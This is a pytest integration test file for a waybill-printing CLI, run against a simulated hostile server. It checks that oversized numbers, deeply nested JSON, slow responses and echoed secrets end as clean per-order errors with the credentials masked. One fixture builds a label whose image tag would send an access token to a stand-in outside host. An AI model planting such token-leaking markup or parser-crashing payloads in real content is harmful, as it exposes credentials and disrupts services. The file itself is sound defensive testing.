"""`waybill-printer fetch` as a user runs it against a hostile server and hostile input.

A real subprocess, a real ledger in its own `WAYBILL_HOME`, real HTTP on loopback. Every
failure must end as clear lines for the orders concerned (never a traceback that loses
the run), and no secret may reach any file or stream the program writes.
"""

from __future__ import annotations

import base64
import json
import subprocess
import threading
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from app.core.ledger import Ledger
from tests.integration.hostile_server import (
    STABLE_TOKEN,
    Handler,
    HostileServer,
    answer_json,
    answer_raw,
    drip,
    echo_orders,
)
from tests.integration.ledger_cli import cli_command, cli_env, json_lines, ledger_path, run_cli


@pytest.fixture
def hostile() -> Iterator[HostileServer]:
    with HostileServer() as server:
        yield server


def station(home: Path, hostile: HostileServer) -> dict[str, str]:
    env = cli_env(home)
    env["WAYBILL_APPID"] = hostile.appid
    env["WAYBILL_APPSECRET"] = hostile.secret
    return env


def fetch(hostile: HostileServer, home: Path, lines: list[str], *extra: str) -> Any:
    return run_cli(
        ["fetch", "--json", "--api-base", hostile.base_url, *extra, "-i", "-"],
        station(home, hostile),
        stdin="\n".join(lines) + "\n",
    )


def first_order(body: dict[str, Any]) -> str:
    return str(body["order_list"][0]["order_id"])


def test_huge_numbers_and_deep_nesting_are_lines_of_their_batch_not_a_traceback(
    hostile: HostileServer, tmp_path: Path
) -> None:
    def behaviour(handler: Handler, body: dict[str, Any]) -> None:
        answer = echo_orders(body)
        if first_order(body) == "A0000":
            answer["order_list"][0]["errcode"] = 2**63
            answer["order_list"][1]["order_status"] = 10**30
        elif first_order(body) == "A0100":
            answer_raw(handler, b"[" * 100_000 + b"]" * 100_000)
            return
        answer_json(handler, answer)

    hostile.batchget = behaviour
    lines = [f"A{n:04d},SF" for n in range(250)]
    result = fetch(hostile, tmp_path, lines)
    assert result.returncode == 1, result.stderr
    assert "Traceback" not in result.stderr
    out = json_lines(result.stdout)
    assert [o["order_id"] for o in out] == [line.split(",")[0] for line in lines]
    errors = {o["order_id"] for o in out if o["status"] == "error"}
    assert errors == {"A0000", "A0001"} | {f"A{n:04d}" for n in range(100, 200)}
    assert all(o["errcode"] == -1006 for o in out if o["status"] == "error")
    assert "250 lines: 102 error, 148 ok" in result.stderr


def test_echoed_secrets_reach_no_stream_and_no_file(hostile: HostileServer, tmp_path: Path) -> None:
    def behaviour(handler: Handler, body: dict[str, Any]) -> None:
        if first_order(body) == "E0100":  # the whole call fails, quoting the AppSecret
            answer_json(handler, {"errcode": 9300502, "errmsg": f"secret {hostile.secret}"})
            return
        answer = echo_orders(body)
        answer["order_list"][0].update(errcode=9300501, errmsg=f"token={hostile.token}")
        answer["order_list"][1]["waybill_data"] = [{"key": hostile.secret, "value": hostile.token}]
        answer_json(handler, answer)

    hostile.batchget = behaviour
    lines = [f"E{n:04d},SF" for n in range(150)]
    result = fetch(hostile, tmp_path, lines)
    assert result.returncode == 1, result.stderr
    out = json_lines(result.stdout)
    assert out[0]["errmsg"].startswith("token=***")
    assert all("secret ***" in o["errmsg"] for o in out[100:])
    history = run_cli(["history", "--csv", "-"], station(tmp_path, hostile))
    assert history.returncode == 0 and "E0000" in history.stdout
    assert STABLE_TOKEN in hostile.calls  # the token the server echoes is the one it issued
    written = [result.stdout, result.stderr, history.stdout, history.stderr]
    written += [
        p.read_bytes().decode("utf-8", "replace") for p in tmp_path.rglob("*") if p.is_file()
    ]
    assert any("token=***" in text for text in written[4:])  # the ledger holds the masked text
    for secret in (hostile.token, hostile.secret):
        assert not [text[:80] for text in written if secret in text]


def test_a_token_echoed_inside_the_label_reaches_no_file_and_no_stream(
    hostile: HostileServer, tmp_path: Path
) -> None:
    def behaviour(handler: Handler, body: dict[str, Any]) -> None:
        label = f"<html><body>label <img src='https://x.example/?access_token={hostile.token}'>"
        label += f"<p>{hostile.secret}</p></body></html>"
        print_html = base64.b64encode(label.encode()).decode()
        answer_json(handler, echo_orders(body, print_html=print_html))

    hostile.batchget = behaviour
    home, pdf_dir = tmp_path / "home", tmp_path / "pdf"
    result = fetch(hostile, home, ["L1,SF", "L2,SF"], "--pdf-dir", str(pdf_dir))
    assert result.returncode == 1, result.stderr  # the label has no barcode: unverified
    out = json_lines(result.stdout)
    assert [o["status"] for o in out] == ["unverified", "unverified"]
    assert sorted(p.name for p in pdf_dir.iterdir()) == ["WB-L1.pdf", "WB-L2.pdf"]
    with Ledger(ledger_path(home)) as ledger:
        stored = ledger.stored_waybill("WB-L1")
    assert stored is not None and stored.html is not None
    assert "access_token=***" in stored.html and "<p>***</p>" in stored.html
    written = [result.stdout, result.stderr]
    written += [
        p.read_bytes().decode("utf-8", "replace") for p in tmp_path.rglob("*") if p.is_file()
    ]
    assert any("access_token=***" in text for text in written[2:])  # the ledger's masked label
    for secret in (hostile.token, hostile.secret):
        assert not [text[:80] for text in written if secret in text]


def test_a_dripping_call_fails_its_batch_at_the_deadline_and_the_next_batch_is_fetched(
    hostile: HostileServer, tmp_path: Path
) -> None:
    def behaviour(handler: Handler, body: dict[str, Any]) -> None:
        data = json.dumps(echo_orders(body)).encode()
        if first_order(body) == "D0000":
            drip(handler, data, 1.0)
        else:
            answer_json(handler, echo_orders(body))

    hostile.batchget = behaviour
    lines = [f"D{n:04d},SF" for n in range(150)]
    result = fetch(hostile, tmp_path, lines, "--timeout", "2")
    assert result.returncode == 1, result.stderr
    out = json_lines(result.stdout)
    assert all("no complete answer within" in o["errmsg"] for o in out[:100])
    assert all(o["status"] == "ok" for o in out[100:])


def test_results_stream_out_before_the_input_has_ended(
    hostile: HostileServer, tmp_path: Path
) -> None:
    with subprocess.Popen(
        cli_command("fetch", "--api-base", hostile.base_url, "-i", "-"),
        stdin=subprocess.PIPE,
        stdout=subprocess.PIPE,
        stderr=subprocess.DEVNULL,
        env=station(tmp_path, hostile),
        text=True,
    ) as proc:
        assert proc.stdin is not None and proc.stdout is not None
        stdout = proc.stdout
        first: list[str] = []
        reader = threading.Thread(target=lambda: first.append(stdout.readline()))
        reader.start()
        proc.stdin.write("".join(f"S{n:05d},SF\n" for n in range(800)))  # one window of calls
        proc.stdin.flush()
        reader.join(timeout=120)  # bounded only so that a broken build fails, not hangs
        try:
            assert first and first[0].startswith("OK") and "S00000" in first[0]
        finally:
            proc.stdin.write("S99999,SF\n")
            proc.stdin.close()
            rest = stdout.read()
            proc.wait(timeout=120)
    assert len(rest.splitlines()) == 800  # 799 of the first window and the last line


def test_a_waybill_id_answered_twice_is_an_error_not_an_overwritten_pdf(
    hostile: HostileServer, tmp_path: Path
) -> None:
    def behaviour(handler: Handler, body: dict[str, Any]) -> None:
        answer_json(handler, echo_orders(body, waybill_id="WB-SAME"))

    hostile.batchget = behaviour
    pdf_dir = tmp_path / "pdf"
    result = fetch(
        hostile, tmp_path / "home", ["W1,SF", "W2,SF", "W3,ZTO"], "--pdf-dir", str(pdf_dir)
    )
    assert result.returncode == 1, result.stderr
    out = json_lines(result.stdout)
    # the tiny label has no barcode: written for inspection, but not verified
    assert [o["status"] for o in out] == ["unverified", "error", "error"]
    assert all(o["errcode"] == -1104 and "order W1" in o["errmsg"] for o in out[1:])
    assert [p.name for p in pdf_dir.iterdir()] == ["WB-SAME.pdf"]
    assert out[0]["pdf"] == str(pdf_dir / "WB-SAME.pdf")


@pytest.mark.parametrize("encoding", ["gb18030", "utf-16", "utf-8-sig"])
def test_fetch_reads_spreadsheet_files_in_every_encoding_with_quoted_fields(
    hostile: HostileServer, tmp_path: Path, encoding: str
) -> None:
    path = tmp_path / "orders.csv"
    text = '"订单号","快递公司"\r\n"甲1001","SF"\r\n"A1002","zto"\r\n'
    path.write_bytes(text.encode(encoding))
    result = run_cli(
        ["fetch", "--json", "--api-base", hostile.base_url, "-i", str(path)],
        station(tmp_path / "home", hostile),
    )
    assert result.returncode == 0, result.stderr
    out = json_lines(result.stdout)
    assert [(o["order_id"], o["delivery_id"], o["status"]) for o in out] == [
        ("甲1001", "SF", "ok"),
        ("A1002", "ZTO", "ok"),
    ]


def test_an_unusable_data_folder_and_out_of_range_numbers_are_clear_usage_errors(
    tmp_path: Path,
) -> None:
    home = tmp_path / "home"
    home.mkdir()
    (home / "data").write_text("a file where the data folder should be")
    env = {**cli_env(home), "WAYBILL_ACCESS_TOKEN": "a-ready-token"}
    result = run_cli(["fetch", "--api-base", "http://127.0.0.1:9", "A1,SF"], env)
    assert result.returncode == 2 and "cannot use the data folder" in result.stderr
    assert "Traceback" not in result.stderr
    for args, words in (
        (["confirm", "999999999999999999999999", "printed"], "must be from 1 to"),
        (["history", "--limit", "-5"], "must be from 1 to 1000000"),
        (["fetch", "--copies", "0", "A1"], "must be from 1 to 10"),
        (["confirm", "12x", "printed"], "not a whole number"),
        (["sandbox", "--port", "99999"], "must be from 0 to 65535"),
        (["sandbox", "--latency", "-1"], "must be from 0 to 60 seconds"),
    ):
        result = run_cli(args, env)
        assert result.returncode == 2 and words in result.stderr, args
        assert "Traceback" not in result.stderr
